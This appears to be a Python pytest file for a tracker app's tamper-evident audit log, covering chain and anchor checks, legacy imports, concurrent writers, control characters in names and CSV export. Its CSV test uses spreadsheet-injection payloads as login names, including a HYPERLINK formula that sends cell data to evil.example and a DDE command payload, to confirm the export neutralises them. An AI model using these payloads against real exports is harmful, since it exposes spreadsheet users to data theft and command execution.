"""The audit log's keyed chain and sealed anchor in the store (every kind of tampering is found), the import of an
audit.jsonl of earlier versions with its verdict, concurrent writers, one line per record whatever characters a
name holds, a store that refuses the line never stops a sign-in, and the audit CSV is safe to open in a
spreadsheet."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import sqlite3
import subprocess
import sys

import polars as pl
import pytest
import sqlalchemy as sa

from tracker import audit, auth, exports, store

PW = "correct-horse-1"
NAMES = ["alice", "bob", "carol", "dave", "erin"]


@pytest.fixture
def log_env(tmp_path, monkeypatch):
    """A store of its own under a data dir, the secret key outside it; an old audit file's place (absent)."""
    monkeypatch.setenv("TRACKER_STORE_URL", f"sqlite:///{tmp_path / 'data' / 'state' / 'tracker.db'}")
    monkeypatch.setenv("TRACKER_AUDIT_FILE", str(tmp_path / "data" / "audit" / "audit.jsonl"))
    monkeypatch.setenv("TRACKER_SECRET_KEY_FILE", str(tmp_path / "secret" / "person_key.secret"))
    monkeypatch.delenv("TRACKER_SECRET_KEY", raising=False)
    monkeypatch.delenv("TRACKER_AUDIT_ANCHOR_FILE", raising=False)
    store.reset()
    yield tmp_path
    store.reset()


@pytest.fixture
def five(log_env):
    for i, who in enumerate(NAMES):
        assert audit.log(who, "login", "54", f"n{i}") is True
    assert audit.verify() is None
    return log_env


def raw_lines() -> list[bytes]:
    with store.engine().connect() as c:
        return [x.encode() for x in c.execute(sa.select(store.audit_lines.c.line).order_by(store.audit_lines.c.seq)).scalars()]


def put(lines: list[bytes]) -> None:
    """The store's lines replaced by `lines` (someone with write access to the database)."""
    with store.engine().begin() as c:
        c.execute(sa.delete(store.audit_lines))
        if lines:
            c.execute(sa.insert(store.audit_lines), [{"seq": i, "line": x.decode("utf-8", "replace")} for i, x in enumerate(lines, 1)])


def set_anchor(**values) -> None:
    with store.engine().begin() as c:
        c.execute(sa.update(store.audit_anchor).values(**values))


def anchor_row() -> dict:
    with store.engine().connect() as c:
        return dict(c.execute(sa.select(store.audit_anchor)).mappings().one())


def drop_anchor(ls) -> None:
    with store.engine().begin() as c:
        c.execute(sa.delete(store.audit_anchor))


def edited(line: bytes, **change) -> bytes:
    rec = json.loads(line) | change
    return json.dumps(rec, ensure_ascii=False).encode()


def resigned(lines: list[bytes], key: bytes) -> list[bytes]:
    """The lines with their MACs made again under another key: a rewrite by someone without the key."""
    out, prev = [], ""
    for line in lines:
        rec = json.loads(line)
        rec.pop("mac")
        rec["mac"] = hmac.new(key, prev.encode() + b"\n" + audit._canonical(rec), hashlib.sha256).hexdigest()
        prev = rec["mac"]
        out.append(json.dumps(rec, ensure_ascii=False).encode())
    return out


def legacy(recs: list[dict]) -> list[bytes]:
    """Lines in the old unkeyed form: each holds the SHA-256 of the line before."""
    out, prev = [], ""
    for r in recs:
        line = json.dumps(r | {"prev": prev}, ensure_ascii=False).encode()
        out.append(line)
        prev = hashlib.sha256(line).hexdigest()
    return out


def old_recs(n: int) -> list[dict]:
    return [{"ts": f"2026-01-0{i + 1}T08:00:00+00:00", "who": f"old{i}", "action": "login", "area": "", "detail": ""} for i in range(n)]


# each case: what is done to the five-line log, and the line verify must name (6 = a line cut off the end)
TAMPERING = {
    "edit first line": (lambda ls: put([edited(ls[0], who="mallory")] + ls[1:]), 1),
    "edit middle line": (lambda ls: put(ls[:2] + [edited(ls[2], action="logout")] + ls[3:]), 3),
    "edit last line": (lambda ls: put(ls[:4] + [edited(ls[4], detail="changed")]), 5),
    "edit last line, forged mac": (lambda ls: put(ls[:4] + resigned(ls, b"guess")[4:]), 5),
    "delete last line": (lambda ls: put(ls[:4]), 5),
    "delete two trailing lines": (lambda ls: put(ls[:3]), 4),
    "delete middle line": (lambda ls: put(ls[:2] + ls[3:]), 3),
    "delete first line": (lambda ls: put(ls[1:]), 1),
    "insert a copied line": (lambda ls: put(ls[:3] + [ls[1]] + ls[3:]), 4),
    "append a copied line": (lambda ls: put(ls + [ls[0]]), 6),
    "append an unkeyed line": (lambda ls: put(ls + legacy(old_recs(1))), 6),
    "insert a blank line": (lambda ls: put(ls[:2] + [b""] + ls[2:]), 3),
    "insert garbage": (lambda ls: put(ls[:1] + [b"\xff\xfe not json"] + ls[1:]), 2),
    "insert a blank first line": (lambda ls: put([b""] + ls), 1),
    "swap two lines": (lambda ls: put([ls[0], ls[2], ls[1]] + ls[3:]), 2),
    "rewrite without the key": (lambda ls: put(resigned([edited(x, who="nobody") for x in ls], b"not-the-key")), 1),
    "rewrite in the old unkeyed form": (lambda ls: put(legacy(old_recs(5))), 1),
    "truncate to empty": (lambda ls: put([]), 1),
    "delete the anchor": (drop_anchor, 1),
    "damage the anchor's seal": (lambda ls: set_anchor(seal="0" * 64), 1),
    "roll the anchor back without the key": (lambda ls: set_anchor(count=4, mac=json.loads(ls[3])["mac"]), 1),
    "cut the log and roll the anchor back": (lambda ls: (put(ls[:4]), set_anchor(count=4, mac=json.loads(ls[3])["mac"])), 1),
}


@pytest.mark.parametrize("case", list(TAMPERING))
def test_every_kind_of_tampering_is_found(five, case):
    change, line = TAMPERING[case]
    change(raw_lines())
    chain = audit.status()
    assert audit.verify() == line == chain.first_bad, chain
    assert audit.describe(chain, "zh").startswith(f"日志自第{line}行起被改动或删除过")
    audit.read()  # reading a tampered log never raises


def test_the_anchor_follows_each_line_sealed_by_the_key(five):
    a = anchor_row()
    assert (a["count"], a["start"]) == (5, 0) and len(a["seal"]) == 64
    assert audit.head() == (5, json.loads(raw_lines()[-1])["mac"]) == (5, a["mac"])
    assert audit.confirms(*audit.head()) and audit.confirms(0, "")
    count, mac = audit.head()
    put(raw_lines()[:-1])
    assert not audit.confirms(count, mac)


def test_an_older_genuine_anchor_put_back_shows(log_env):
    for who in NAMES[:4]:
        assert audit.log(who, "login")
    old = anchor_row()
    assert audit.log(NAMES[4], "login")
    count, mac = audit.head()  # what the week's manifest records, outside the store
    set_anchor(**{k: old[k] for k in ("count", "mac", "start", "seal")})
    chain = audit.status()
    assert (chain.first_bad, chain.reason) == (5, "unanchored")
    put(raw_lines()[:4])  # with the line gone too, the store is as it was back then: only the outside record shows it
    assert audit.verify() is None and not audit.confirms(count, mac)


def test_new_lines_do_not_heal_a_cut_log(five):
    put(raw_lines()[:3])
    assert audit.log("next", "login")
    assert audit.verify() == 4  # the new line links to the removed one's MAC, as the anchor says


def test_a_lost_anchor_stays_visible(five):
    drop_anchor(None)
    assert audit.log("next", "login")  # logging goes on, the anchor starts again
    chain = audit.status()
    assert (chain.first_bad, chain.reason) == (1, "anchor_reset")


def test_a_line_and_its_anchor_are_written_together_or_not_at_all(five, monkeypatch, capsys):
    def refuse(*a, **kw):
        raise sa.exc.OperationalError("update audit_anchor", {}, Exception("disk I/O error"))

    monkeypatch.setattr(audit, "_write_anchor", refuse)
    assert audit.log("f", "login") is False
    assert "audit: line not written" in capsys.readouterr().err
    assert len(raw_lines()) == 5 and audit.verify() is None


def test_writers_in_several_processes_keep_one_chain(five):
    code = "import sys\nfrom tracker import audit\nfor i in range(25):\n    assert audit.log(f'p{sys.argv[1]}', 'login', '54', str(i))\n"
    procs = [subprocess.Popen([sys.executable, "-c", code, str(k)], env=dict(os.environ)) for k in range(4)]
    assert [p.wait(timeout=120) for p in procs] == [0, 0, 0, 0]
    chain = audit.status()
    assert (chain.lines, chain.first_bad, chain.anchor) == (105, None, 105)
    rows = audit.read()
    assert sorted(r["detail"] for r in rows if r["who"] == "p2") == sorted(str(i) for i in range(25))


def old_file(lines: list[bytes], anchor: dict | None) -> None:
    """An audit.jsonl as earlier versions wrote it, with its anchor file beside the secret key."""
    audit.path().parent.mkdir(parents=True, exist_ok=True)
    audit.path().write_bytes(b"".join(x + b"\n" for x in lines))
    if anchor is not None:
        audit.anchor_path().parent.mkdir(parents=True, exist_ok=True)
        audit.anchor_path().write_text(json.dumps(anchor))


def keyed_file_lines(n: int, after: list[bytes] = ()) -> list[bytes]:
    prev = hashlib.sha256(after[-1]).hexdigest() if after else ""
    out = []
    for i in range(n):
        rec = {"ts": f"2026-11-0{i + 1}T08:00:00+08:00", "who": f"w{i}", "action": "export", "area": "540329", "detail": f"d{i}"}
        rec["mac"] = prev = audit._mac(audit._key(), prev, rec)
        out.append(json.dumps(rec, ensure_ascii=False).encode())
    return [*after, *out]


def test_an_old_audit_file_is_checked_and_imported_once(log_env, capsys):
    lines = keyed_file_lines(3, legacy(old_recs(2)))
    old_file(lines, {"count": 5, "mac": json.loads(lines[-1])["mac"], "start": 2})
    chain = audit.status()  # the first touch of the store imports the file
    assert (chain.lines, chain.first_bad, chain.legacy, chain.anchor) == (5, None, 2, 5)
    assert "imported 5 audit lines" in capsys.readouterr().err
    assert raw_lines() == lines  # unchanged, so the chain carries over
    assert audit.log("after", "login") and audit.verify() is None
    assert [r["who"] for r in audit.read()] == ["old0", "old1", "w0", "w1", "w2", "after"]
    assert audit.path().read_bytes().count(b"\n") == 5  # the file is not written again
    store.reset()
    assert len(audit.read()) == 6  # and not imported again at the next start
    with sqlite3.connect(log_env / "data" / "state" / "tracker.db") as db:
        assert db.execute("select detail from imports where name like 'audit.jsonl:%'").fetchone() == ("5 lines, chain intact",)


def test_an_old_audit_file_with_a_broken_chain_keeps_its_verdict(log_env, capsys):
    lines = keyed_file_lines(4)
    old_file([lines[0], edited(lines[1], who="mallory"), *lines[2:]], {"count": 4, "mac": json.loads(lines[-1])["mac"], "start": 0})
    chain = audit.status()
    assert (chain.first_bad, chain.reason) == (2, "bad_mac")
    assert "chain broken from line 2 (bad_mac)" in capsys.readouterr().err
    assert [r["who"] for r in audit.read()][1] == "mallory"  # nothing is lost or cleaned up on the way in


def test_an_old_file_is_not_imported_over_a_store_that_has_lines(five, capsys):
    old_file(keyed_file_lines(2), None)
    store.reset()
    assert len(audit.read()) == 5 and audit.verify() is None
    assert "not imported: the store already holds 5 audit lines" in capsys.readouterr().err


def test_an_old_unkeyed_log_is_read_and_carried_on(log_env):
    audit.path().parent.mkdir(parents=True)
    put(legacy(old_recs(3)))
    chain = audit.status()
    assert (chain.first_bad, chain.legacy, chain.keyed_from) == (None, 3, None)
    assert "旧格式" in audit.describe(chain, "zh")
    assert audit.log("new", "login") and audit.log("new", "logout")
    chain = audit.status()
    assert (chain.first_bad, chain.legacy, chain.keyed_from, chain.lines) == (None, 3, 4, 5)
    assert "自第4行起为密钥链" in audit.describe(chain, "zh")
    assert [r["who"] for r in audit.read()] == ["old0", "old1", "old2", "new", "new"]
    lines = raw_lines()
    put(lines[:2] + [edited(lines[2], who="x")] + lines[3:])  # the last old line: the first keyed line catches it
    assert audit.verify() == 4
    put([edited(lines[0], who="x")] + lines[1:])
    assert audit.verify() == 2
    put(lines)
    assert audit.verify() is None


SEPARATORS = ["\u2028", "\u0085", "\u2029", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x00", "\u202e", "\ufeff", "\ud800", "\U000e0041"]


@pytest.mark.parametrize("sep", SEPARATORS, ids=[f"U+{ord(s[0]):04X}" for s in SEPARATORS])
def test_separators_in_a_name_keep_one_line_per_record(log_env, sep):
    assert audit.log("before", "login")
    assert audit.log(f"x{sep}y", "login_failed", detail=f"d{sep}e")
    assert audit.log("after", "login")
    lines = [x.decode("utf-8") for x in raw_lines()]
    assert len(lines) == 3 and all(len(x.splitlines()) == 1 for x in lines)  # even str.splitlines sees one line each
    assert all(c.isprintable() for x in lines for c in x)
    rows = audit.read()
    assert [r["who"] for r in rows] == ["before", f"x{sep}y", "after"]
    assert rows[1]["detail"] == f"d{sep}e" and not any(r["damaged"] for r in rows)
    assert audit.verify() is None
    shown = audit.table(rows, "zh")["用户"].to_list()[1]
    assert shown.isprintable() and shown.startswith("x\\u")


def test_chinese_stays_readable_in_the_store(log_env):
    assert audit.log("次仁", "login", detail="昌都市")
    assert "次仁" in raw_lines()[0].decode() and '"action": "login"' in raw_lines()[0].decode()


def test_damaged_lines_are_shown_not_fatal(five):
    lines = raw_lines()
    put(lines[:2] + [b"\xff\xfe{not json", b'{"who": "a\xe2\x80\xa8b"', b"[1, 2]"] + lines[2:])
    rows = audit.read()
    assert len(rows) == 8 and [r["line"] for r in rows if r["damaged"]] == [3, 4, 5]
    assert {r["action"] for r in rows if r["damaged"]} == {"damaged"}
    assert all(audit.visible(r["detail"]) == r["detail"] for r in rows)
    chain = audit.status()
    assert (chain.first_bad, chain.damaged) == (3, (3, 4, 5))
    audit.table(rows, "en")


def refuse_audit_lines() -> None:
    """A store that refuses audit lines (a read-only table, a full disk: the write fails inside the database)."""
    with store.engine().begin() as c:
        c.exec_driver_sql("CREATE TRIGGER no_audit BEFORE INSERT ON audit_lines BEGIN SELECT RAISE(ABORT, 'disk full'); END")


def test_a_store_that_refuses_the_line_returns_false(log_env, capsys):
    from tests.fixture import fixture_id

    refuse_audit_lines()
    assert audit.log("x", "view_records", "54", f"id {fixture_id(1)}") is False
    err = capsys.readouterr().err
    assert "audit: line not written" in err and "disk full" in err and fixture_id(1) not in err and fixture_id(1)[:6] in err
    assert audit.read() == [] and audit.verify() is None


def test_a_store_that_cannot_be_reached_returns_false(log_env, monkeypatch, capsys):
    (log_env / "blocker").write_text("not a directory")
    monkeypatch.setenv("TRACKER_STORE_URL", f"sqlite:///{log_env / 'blocker' / 'state.db'}")
    store.reset()
    assert audit.log("y", "login") is False
    assert capsys.readouterr().err.count("audit: line not written") == 1
    assert audit.read() == [] and audit.status().reason == "unreadable"


def test_sign_in_works_when_the_log_cannot_be_written(fx, log_env, monkeypatch):
    monkeypatch.setenv("TRACKER_DEMO", "0")
    monkeypatch.setenv("TRACKER_USERS_FILE", str(log_env / "users.json"))
    auth.add_user("lhorong", PW, "staff", "540329")
    auth.THROTTLE.clear()
    refuse_audit_lines()
    assert auth.login("lhorong", PW).username == "lhorong"
    with pytest.raises(auth.LoginError):
        auth.login("lhorong", "wrong-password")
    auth.THROTTLE.clear()


@pytest.mark.parametrize(
    "payload", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]
)
def test_injected_login_names_are_neutralised_in_the_csv(log_env, payload):
    assert audit.log(payload, "login_failed", detail=payload)
    data = exports.csv_bytes(audit.table(audit.read(), "zh"))
    df = pl.read_csv(data.removeprefix("\ufeff".encode()), infer_schema=False)
    for col in ("用户", "详情"):
        cell = df[col][0]
        assert cell[0] not in "=+-@\t\r" and cell.removeprefix("'") == audit.visible(payload)


def test_action_names_and_beijing_time():
    assert audit.action_label("login_failed", "zh") == "登录失败" and audit.action_label("export", "en") == "Export / download"
    assert audit.action_label("something_new", "zh") == "something_new"
    assert audit.beijing("2026-11-23T01:38:05+00:00") == "2026-11-23 09:38"
    assert audit.beijing("2026-11-23T09:38:59+08:00") == "2026-11-23 09:38"
    assert audit.beijing("garbage\u2028") == "garbage\\u2028"


def test_every_logged_action_has_a_name():
    import re

    from tests.conftest import REPO

    codes = set()
    for p in [*REPO.glob("tracker/*.py"), *REPO.glob("app_pages/*.py"), REPO / "app.py"]:
        text = p.read_text(encoding="utf-8")
        codes |= set(re.findall(r"audit\.log\([^,]+,\s*\"([a-z_]+)\"", text))
        codes |= set(re.findall(r"audit_view\(\"([a-z_]+)\"", text))
        codes |= set(re.findall(r"_done\([^\n]*?\"(user_[a-z]+)\"", text))
    codes |= {f"user_{c}" for c in ("disable", "enable")}
    assert codes and codes <= set(audit.ACTIONS), codes - set(audit.ACTIONS)


def test_audit_page_with_hostile_names_and_a_damaged_line(fx, log_env, monkeypatch):
    from tests.test_auth import app_as

    monkeypatch.setenv("TRACKER_DEMO", "0")
    monkeypatch.setenv("TRACKER_USERS_FILE", str(log_env / "users.json"))
    auth.add_user("root", PW, "admin", "54")
    auth.THROTTLE.clear()
    at = app_as(None)
    for name in ["a\u2028b", "c\u0085d", "e\u2029f", "g\rh", '=HYPERLINK("http://x","y")']:
        at.text_input(key="login_user").input(name)
        at.text_input(key="login_pw").input("wrong-password")
        at.button[0].click().run()
        assert not at.exception
    auth.THROTTLE.clear()
    at = app_as("root", "audit")
    assert [s.value for s in at.success] == ["日志链完整：未发现改动或删除。"]
    log = at.dataframe[0].value
    assert log["用户"].tolist()[:5] == ['=HYPERLINK("http://x","y")', "g\\u000dh", "e\\u2029f", "c\\u0085d", "a\\u2028b"]
    assert set(log["操作名称"].tolist()[:5]) == {"登录失败"} and "操作" not in log.columns  # names on screen, codes in the CSV
    assert all(len(t) == 16 and t[4] == "-" and t[10] == " " for t in log["时间"].tolist())
    n = len(audit.read())
    put([*raw_lines(), "\u2028 a raw separator line".encode()])
    at = app_as("root", "audit")
    assert not at.exception and at.error[0].value.startswith(f"日志自第{n + 1}行起被改动或删除过")
    assert at.dataframe[0].value["操作名称"].tolist()[0] == "损坏的行"
    auth.THROTTLE.clear()


@pytest.mark.parametrize(
    "lang, shown",
    [
        ("zh", "2026-11-20 文件数=1 接收行=2 拒收行=1 非本辖区行=1 结果=0"),
        ("en", "2026-11-20 files=1 accepted=2 rejected=1 outside scope=1 exit=0"),
    ],
)
def test_an_ingest_line_reads_in_the_page_language(lang, shown):
    detail = "2026-11-20 files=1 accepted=2 rejected=1 outside_scope=1 exit=0"
    assert audit.readable(detail, lang) == shown
    assert audit.readable("x=1 id=540329", lang) == "x=1 id=540329"  # unknown words stay as logged
    rows = [{"line": 1, "ts": "", "who": "a", "action": "ingest", "area": "540329", "detail": detail}]
    assert audit.table(rows, lang)[-1, -1] == shown
